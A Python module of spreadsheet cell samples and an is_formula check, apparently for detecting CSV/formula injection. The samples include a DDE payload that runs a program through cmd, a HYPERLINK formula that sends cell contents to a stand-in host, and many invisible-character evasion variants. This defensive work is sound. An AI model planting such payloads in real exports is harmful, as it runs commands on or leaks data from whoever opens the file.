"""Cells that a spreadsheet might run, and what makes one a formula."""

from __future__ import annotations

import unicodedata

# Name; a text of a client.
FORMULAS: dict[str, str] = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1)",
    "DDE": "=cmd|'/c calc'!A1",
    "DDE without its sign": "@cmd|'/c calc'!A1",
    "function with a link": '=HYPERLINK("http://x.example/?"&A1)',
    "full width equals": "\uff1d1+1",
    "full width plus": "\uff0b1+1",
    "full width minus": "\uff0d1+1",
    "full width at": "\uff20SUM(1)",
    "small equals": "\ufe661+1",
    "minus sign": "\u22121+1",
    "blanks": "  =1+1",
    "no-break space": "\xa0=1+1",
    "wide blank": "\u3000=1+1",
    "byte order mark": "\ufeff=1+1",
    "blanks and byte order mark": " \ufeff =1+1",
    "zero width": "\u200b=1+1",
    "word joiner": "\u2060=1+1",
    "soft hyphen": "\xad=1+1",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "lines": "\r\n\r\n=1+1",
    "NUL": "\0=1+1",
    "vertical tab": "\x0b=1+1",
    "next line": "\x85=1+1",
    "quote": '"=1+1',
    "quotes": '""=1+1',
    "semicolon": "a;=1+1",
    "semicolon and a blank": "a; =1+1",
    "semicolon and a quote": 'a;"=1+1"',
    "semicolon and two quotes": 'a;""=1+1',
    "semicolon and a mark": "a;\ufeff+1+1",
    "semicolon in quotes": 'a";=1+1;"',
    "semicolon, full width": "a;\uff1d1+1",
    "semicolons": ";;=1+1",
    "many cells": "a;b;c;d;=1+1",
    "inner tab": "a\t=1+1",
    "inner line": "a\n=1+1",
    "inner carriage return": "a\r=1+1",
    "inner line separator": "a\u2028=1+1",
    "comma": "a,=1+1",
    "quoted comma": 'a",=1+1,"',
}

# Also the letters of Hangul that take no room.
_UNSEEN = '"\u115f\u1160\u3164\uffa0'


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet could take the text of a cell for a formula."""
    for char in cell:
        if unicodedata.category(char)[0] not in "ZC" and char not in _UNSEEN:
            return unicodedata.normalize("NFKC", char) in "=+-@\u2212"
    return False
